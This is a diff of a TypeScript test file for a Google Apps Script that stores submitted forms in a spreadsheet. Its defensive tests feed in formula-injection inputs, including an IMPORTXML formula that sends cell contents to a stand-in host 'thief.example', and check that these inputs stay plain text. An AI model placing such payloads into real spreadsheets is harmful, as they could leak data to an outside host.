@@ -1,159 +1,189 @@
 import { describe, expect, test } from 'vitest';
 
-import { sampleMessage } from '../domain/testing/sample-forms.ts';
-import { fieldNames } from '../domain/forms/enrolment/schema.ts';
-import { Google } from './testing/google.ts';
-import { personAt, recordsOf, rowsOf } from './testing/sheet.ts';
-import { deliver, forwarded, runScript, scriptSource, sheetWith } from './testing/run-script.ts';
-import { insertTab } from './testing/workbook.ts';
+import { replyHours } from '../domain/due.ts';
+import { normaliseReference } from '../domain/submission.ts';
+import { sampleApplication, sampleMessage } from '../domain/testing/sample-forms.ts';
+import { scriptSentences } from '../server/delivery/ask-script.ts';
+import { forwarded, Google, scriptSource } from './testing/google.ts';
 
-const columns = ['reference', 'submittedAt', 'dueAt', 'answered', ...fieldNames, 'key'];
-const cells = Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]);
-const asCells = Object.fromEntries(cells) as Record<string, string>;
+const cells = Object.fromEntries(
+  Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]),
+);
 
-/** A spreadsheet of this size in which the staff have already written. */
-function sheetOfStaff(values: string[][], { rows = 12, columns = 26 } = {}): Google {
+/** A spreadsheet in which the staff have written these rows. */
+function sheetOfStaff(...rows: string[][]): Google {
   const google = new Google();
-  insertTab(google.workbook, 'Applications', { rows, columns });
-  values.forEach((row, at) => {
-    row.forEach((value, column) => personAt(google).types(at + 1, column + 1, value));
-  });
+  google.tabs.set('Applications', { rows, columns: 26, rules: [] });
   return google;
 }
 
-const gridOf = (google: Google) => google.workbook.tabs[0]!.grid;
-
-const hasFormula = (google: Google) =>
-  gridOf(google)
-    .flat()
-    .some(({ formula }) => formula !== '');
-
-test('a form is a row under headings, in the tab of its kind, and only then answered with success', () => {
+test('a form is a row under headings, in the tab of its kind, with the time by which an answer was promised', () => {
   const google = new Google();
-  expect(deliver(google, forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
-  expect(rowsOf(google)[0]).toEqual(columns);
+  expect(google.post(forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
   const dueAt = new Date('2025-02-02T09:05:00.000Z');
-  expect(recordsOf(google)).toEqual([{ ...asCells, dueAt, answered: '', key: '' }]);
-  expect(google.workbook.tabs[0]!.frozenRows).toBe(1);
-  const message = { ...sampleMessage, reference: '2222-3333' };
-  deliver(google, message);
-  expect(recordsOf(google, 'Messages')).toMatchObject([message]);
-});
-
-describe('a sheet that the staff have changed', () => {
-  test('keeps their columns, their order and their rows; only missing headings are added', () => {
-    const google = sheetOfStaff([
-      ['Called?', 'City', 'fullName', 'Notes'],
-      ['yes', 'Bath', 'Ann Earlier', 'likes mornings'],
-    ]);
-    expect(deliver(google, forwarded)).toMatchObject({ success: true });
-    const [headings, earlier, added] = rowsOf(google);
-    expect(headings!.slice(0, 5)).toEqual(['Called?', 'City', 'fullName', 'Notes', 'reference']);
-    const known = columns.filter((name) => name !== 'city');
-    expect([...headings!].sort()).toEqual(['Called?', 'City', 'Notes', ...known].sort());
-    expect(earlier!.slice(0, 4)).toEqual(['yes', 'Bath', 'Ann Earlier', 'likes mornings']);
-    expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
-  });
-
-  test('shows no apostrophe in its columns of plain text but before what begins like a formula', () => {
-    const google = sheetOfStaff([['Called?', 'city', 'country', 'reference']]);
-    for (const row of gridOf(google)) for (const cell of row.slice(1, 4)) cell.format = '@';
-    const form = { ...forwarded, city: '01', country: '=A1' };
-    deliver(google, form);
-    expect(rowsOf(google)[1]!.slice(0, 4)).toEqual(['', '01', "'=A1", forwarded.reference]);
-    // A row is recognised even if its reference shows the apostrophe.
-    personAt(google).types(2, 4, `'${forwarded.reference}`);
-    expect(deliver(google, form).success).toBe(true);
-    expect(recordsOf(google)).toHaveLength(1);
-  });
-
-  test('may have another answer and another time meanwhile, and another form that names the reference', () => {
-    const google = sheetWith(forwarded);
-    personAt(google).types(2, columns.indexOf('city') + 1, 'Leeds, Yorkshire');
-    personAt(google).types(2, columns.indexOf('dueAt') + 1, 'next week');
-    const about = {
-      ...forwarded,
-      ...{ reference: '2222-3333', submittedAt: '2025-02-01T09:05:00.000Z' },
-      additionalRequirements: '3333-4444',
-    };
-    expect(deliver(google, about).success).toBe(true);
-    expect(deliver(google, forwarded).success).toBe(true);
-    expect(deliver(google, { ...forwarded, reference: '3333-4444' }).success).toBe(true);
-    expect(recordsOf(google).map(({ reference }) => reference)).toEqual([
-      ...[forwarded.reference, '2222-3333', '3333-4444'],
-    ]);
-  });
-
-  test('grows when it is full, in rows and in columns', () => {
-    const google = sheetOfStaff([['Called?', 'Notes']], { rows: 1, columns: 2 });
-    expect(deliver(google, forwarded)).toMatchObject({ success: true });
-    expect(recordsOf(google)).toMatchObject([{ ...asCells, 'Called?': '' }]);
-  });
-});
-
-describe('what was typed', () => {
-  const hostile = [
-    ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2'],
-    ...['\t=A2', '\r=A2', "'=A2", '01632960001', '+447700900123', '1/2', '2025-03-01'],
-    ...['May 2025', 'TRUE', '10%', '£100', '1e5', "''quoted''", '  '],
+  expect(google.records()).toEqual([{ ...cells, dueAt, answered: '', key: '' }]);
+  const { submittedAt } = forwarded;
+  google.post({ ...sampleMessage, reference: '2222-3333', submittedAt });
+  expect(google.records('Messages')).toMatchObject([sampleMessage]);
+  const tabs = [
+    ['Applications', replyHours.enrolment] as const,
+    ['Messages', replyHours.contact] as const,
   ];
-
-  test.each(hostile)('stands in its cell letter for letter: %j', (typed) => {
-    const google = new Google();
-    const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
-    expect(deliver(google, form)).toMatchObject({ success: true });
-    expect(recordsOf(google)[0]).toMatchObject({
-      businessName: typed.trim(),
-      additionalRequirements: `${typed}\n=A2`.trim(),
-    });
-    expect(hasFormula(google)).toBe(false);
-  });
-
-  test('is taken out, and that is said once, should it ever have become a formula', () => {
-    const google = new Google();
-    const open = scriptSource.replace(": `'${text}`", ": text[0] === '=' ? text : `'${text}`");
-    const form = { ...forwarded, businessName: '=C2' };
-    expect(deliver(google, form, open).error).toMatch(/had become a formula/);
-    expect(deliver(google, form, open).success).toBe(true);
-    expect(hasFormula(google)).toBe(false);
-    expect(recordsOf(google)).toMatchObject([
-      { reference: forwarded.reference, businessName: '(A formula was taken out here.)' },
-    ]);
-  });
+  for (const [tab, hours] of tabs) {
+    const [record] = google.records(tab);
+    expect(Number(record!.dueAt) - Date.parse(submittedAt)).toBe(hours * 3_600_000);
+  }
 });
 
-describe('a failure is answered as one', () => {
-  test.each([
-    ['Sheet.appendRow', 'Service invoked too many times for one day: spreadsheets.', /allowance/],
-    ['LockService.getScriptLock', 'You do not have permission to call this.', /run install/],
-    ['Lock.tryLock', 'There are too many LockService operations against the same script.', /again/],
-    ['Sheet.appendRow', 'The cell violates the data validation rules set on it.', /A rule/],
-    ['Sheet.getLastRow', 'Service Spreadsheets failed while accessing document.', /Executions/],
-  ])('when %s throws “%s”', (service, words, sentence) => {
-    const google = new Google();
-    google.fault = (called) => (called === service ? words : undefined);
-    const answer = deliver(google, forwarded);
-    expect(answer).toEqual({ success: false, error: expect.stringMatching(sentence) as string });
-    expect(google.lockedBy).toBeUndefined();
-  });
-
-  test('and what failed half way is one row after it was sent again', () => {
-    const google = new Google();
-    google.fault = (called) => (called === 'SpreadsheetApp.flush' ? 'quota' : undefined);
-    expect(deliver(google, forwarded).success).toBe(false);
-    google.fault = () => undefined;
-    expect(deliver(google, forwarded).success).toBe(true);
-    expect(recordsOf(google)).toHaveLength(1);
-  });
+test('the columns of the staff, their order and their rows stay; only missing headings are added', () => {
+  const google = sheetOfStaff(
+    ['Called?', 'city', ' fullName ', 'Notes'],
+    ['yes', 'Bath', 'Ann', 'mornings'],
+  );
+  expect(google.post(forwarded).success).toBe(true);
+  const [headings, earlier, added] = google.tabs.get('Applications')!.rows;
+  expect(headings!.slice(0, 4)).toEqual(['Called?', 'city', ' fullName ', 'Notes']);
+  expect(new Set(headings!.map((heading) => String(heading).trim())).size).toBe(headings!.length);
+  expect(earlier).toEqual(['yes', 'Bath', 'Ann', 'mornings']);
+  expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
 });
 
-test('opening the address says that it works; install makes both tabs, and changes nothing again', () => {
+test('a field that the form has gained gets its own column', () => {
   const google = new Google();
-  expect(runScript(google, 'doGet').answer!.content).toMatch(/^The script is installed/);
-  expect(google.workbook.tabs).toEqual([]);
-  expect(runScript(google, 'install').log).toEqual(['Ready. Now choose Deploy, New deployment.']);
-  const tabs = structuredClone(google.workbook.tabs);
-  expect(tabs.map(({ name }) => name)).toEqual(['Applications', 'Messages']);
-  runScript(google, 'install');
-  expect(google.workbook.tabs).toEqual(tabs);
+  google.post(forwarded);
+  google.post({ ...forwarded, reference: '2222-3333', shoeSize: '9' });
+  expect(google.records().map(({ shoeSize }) => shoeSize)).toEqual(['', '9']);
+});
+
+test.each([
+  ...[
+    '=A2&B2',
+    '=IMPORTXML("https://thief.example/?"&C2,"//a")',
+    '+A2',
+    '-A2',
+    '@A2',
+    '\t=A2',
+    "'=A2",
+  ],
+  ...['01632960001', '+447700900123', '1/2', '2025-03-01', 'May 2025', 'TRUE', '10%', '1e5', '  '],
+])('what was typed stands in its cell letter for letter: %j', (typed) => {
+  const google = new Google();
+  const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
+  expect(google.post(form).success).toBe(true);
+  expect(google.records()).toMatchObject([
+    { businessName: typed, additionalRequirements: `${typed}\n=A2` },
+  ]);
+});
+
+describe('the same form sent twice is one row', () => {
+  test('by its reference, whatever else the staff have changed in its row', () => {
+    const google = new Google();
+    google.post(forwarded);
+    const [headings, row] = google.tabs.get('Applications')!.rows;
+    row![headings!.indexOf('city')] = 'Leeds, Yorkshire';
+    // A column of the format “Plain text” shows the apostrophe.
+    row![headings!.indexOf('reference')] = `'${forwarded.reference}`;
+    expect(google.post(forwarded)).toEqual({ success: true, reference: forwarded.reference });
+    expect(google.post({ ...forwarded, reference: '3333-4444' }).success).toBe(true);
+    expect(google.records()).toHaveLength(2);
+  });
+
+  test('without a reference by its answers and its day (UTC), and is told the same reference', () => {
+    const google = new Google();
+    google.now = '2025-01-31T00:00:00.000Z';
+    const { reference } = google.post(sampleApplication);
+    expect(normaliseReference(reference!)).toBe(reference);
+    google.now = '2025-01-31T23:59:59.999Z';
+    const reordered = Object.fromEntries(Object.entries(sampleApplication).reverse());
+    expect(google.post(reordered)).toEqual({ success: true, reference });
+    expect(google.records()).toMatchObject([{ submittedAt: '2025-01-31T00:00:00.000Z' }]);
+    expect(google.post({ ...sampleApplication, city: 'Ely' }).reference).not.toBe(reference);
+    google.now = '2025-02-01T00:00:00.000Z';
+    expect(google.post(sampleApplication).reference).not.toBe(reference);
+    expect(google.records()).toHaveLength(3);
+  });
+
+  test('where it failed half way', () => {
+    const google = new Google();
+    google.fault = (service) => (service === 'SpreadsheetApp.flush' ? 'quota' : undefined);
+    expect(google.post(forwarded).success).toBe(false);
+    google.fault = () => undefined;
+    expect(google.post(forwarded).success).toBe(true);
+    expect(google.records()).toHaveLength(1);
+  });
+});
+
+const secret = 'correct-horse-battery';
+
+test.each([
+  ['where the script has none', '', secret],
+  ['that is another', secret, 'correct-horse-batterx'],
+  ['that is missing', secret, ''],
+])('a secret %s stores nothing and says what to do', (_what, own, sent) => {
+  const google = new Google();
+  if (own) google.properties.set('SHEET_SECRET', own);
+  const { success, error } = google.post(forwarded, sent);
+  expect(success).toBe(false);
+  expect(error).toMatch(/SHEET_SECRET at the server and in Apps Script.*must be the same/);
+  for (const each of [sent, own].filter(Boolean)) expect(error).not.toContain(each);
+  expect(google.tabs.size).toBe(0);
+});
+
+test('the secret may have white space around it in the script properties, as pasted text has', () => {
+  const google = new Google();
+  google.properties.set('SHEET_SECRET', ` ${secret}\n`);
+  expect(google.post(forwarded, secret).success).toBe(true);
+});
+
+test.each<[string, unknown]>([
+  ['no object', 'typed by somebody'],
+  ['no form', {}],
+  ['an answer that is no text', { ...forwarded, city: 7 }],
+  ['an answer within an answer', { ...forwarded, city: { name: 'Leeds' } }],
+  ['an odd reference', { ...forwarded, reference: '=A1' }],
+  ['an odd time', { ...forwarded, submittedAt: 'yesterday' }],
+  ['a formula as the name of a field', { ...forwarded, '=A1': 'x' }],
+  ['an answer in the column of the staff', { ...forwarded, answered: 'yes' }],
+  [
+    'more columns than a tab has room for',
+    Object.fromEntries(Array.from({ length: 120 }, (_, at) => [at ? `field${at}` : 'email', 'x'])),
+  ],
+])('%s is refused, and nothing of it is said', (_what, form) => {
+  const google = new Google();
+  expect(google.post(form)).toEqual({
+    success: false,
+    error: 'The field data does not hold the JSON of a form.',
+  });
+  expect(google.records()).toEqual([]);
+  expect(google.log).toEqual([]);
+});
+
+test('while other forms are being written, and where Google fails, it is answered as a failure', () => {
+  const google = new Google();
+  google.isLocked = true;
+  expect(google.post(forwarded).error).toMatch(/busy with other forms/);
+  google.isLocked = false;
+  google.fault = (service) =>
+    service === 'Sheet.appendRow' ? 'Service invoked too many times.' : undefined;
+  const error = expect.stringMatching(/under Executions/) as string;
+  expect(google.post(forwarded)).toEqual({ success: false, error });
+  expect(google.log).toEqual(['Service invoked too many times.']);
+});
+
+test('opening the address says that it works; install makes both tabs, colours what is late, and changes nothing again', () => {
+  const google = new Google();
+  expect(String(google.run('doGet'))).toMatch(/^The script is installed/);
+  google.run('install');
+  expect(google.log).toEqual(['Ready. Now choose Deploy, New deployment.']);
+  expect([...google.tabs.keys()]).toEqual(['Applications', 'Messages']);
+  const tabs = structuredClone(google.tabs);
+  for (const { rules } of tabs.values()) expect(rules).toEqual([expect.stringContaining('NOW()')]);
+  google.run('install');
+  expect(google.tabs).toEqual(tabs);
+});
+
+test('the server knows every sentence that the script may answer', () => {
+  const [, said = ''] = /\nconst SAY = (\{.*?\n\});/su.exec(scriptSource)!;
+  const sentences = [...said.matchAll(/'([^'\n]+)'/gu)].map(([, sentence]) => sentence);
+  expect(sentences).toEqual(scriptSentences);
 });
